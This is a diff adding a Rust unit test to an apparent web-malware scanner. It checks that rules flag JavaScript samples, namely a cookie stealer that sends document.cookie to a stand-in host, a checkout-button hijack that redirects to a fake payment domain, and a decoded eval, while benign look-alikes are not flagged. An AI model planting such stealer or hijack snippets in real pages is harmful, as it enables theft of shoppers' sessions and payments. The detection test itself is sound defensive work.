@@ -536,4 +536,30 @@ mod tests {
                 .any(|r| r.starts_with("crypto-miner pattern"))
         );
     }
+
+    /// Written in the style of real cases (not copied): each rule fires on its pattern and
+    /// not on the benign look-alike next to it.
+    #[test]
+    fn cookie_stealers_checkout_hijacks_and_run_time_decoded_eval_are_named() {
+        let rule = |src: &str| views(src, &Options::default())[0].rule;
+        let stealer = "(new Image()).src = 'http://stats-cdn.example.org/c.php?u=' + escape(document.location.href) + '&c=' + escape(document.cookie);";
+        assert_eq!(rule(stealer), Some(Rule::CookieExfil));
+        // Reading a cookie to decide something, and a pixel without it, are not stealing.
+        let consent = "if (document.cookie.indexOf('consent=1') < 0) { (new Image()).src = 'https://pixel.example.org/p.gif?v=1'; }";
+        assert_eq!(rule(consent), None);
+
+        let hijack = r##"jQuery(function () { jQuery("#onestepcheckout-place-order").attr("onclick", "pay_now();"); });
+            function pay_now() { location.href = "https://paypal-secure.example.net/?d=" + btoa(location.host); }"##;
+        assert_eq!(rule(hijack), Some(Rule::CheckoutHijack));
+        let tooltip = r##"jQuery("#onestepcheckout-place-order").attr("title", "Place order"); location.href = "https://shop.example.net/thanks";"##;
+        assert_eq!(rule(tooltip), None);
+
+        let packed = r#"this["eval"]("Ez}zEz|Ez{zqrspostdatafromformsq:;<=>?@ABCDEFG".replace(/./g, function (c) { return String.fromCharCode(c.charCodeAt(0) - 1); }));"#;
+        assert_eq!(rule(packed), Some(Rule::DecodedEval));
+        let split = r#"var parts = "alpha,beta,gamma,delta,epsilon,zeta,eta,theta,iota".split(","); setTimeout(function () { render(parts); }, 10);"#;
+        assert_eq!(rule(split), None);
+        let c = classify_views(&views(packed, &Options::default()), Model::embedded());
+        assert!(c.malicious, "{c:?}");
+        assert!(c.reasons.iter().any(|r| r.starts_with("packed code")));
+    }
 }
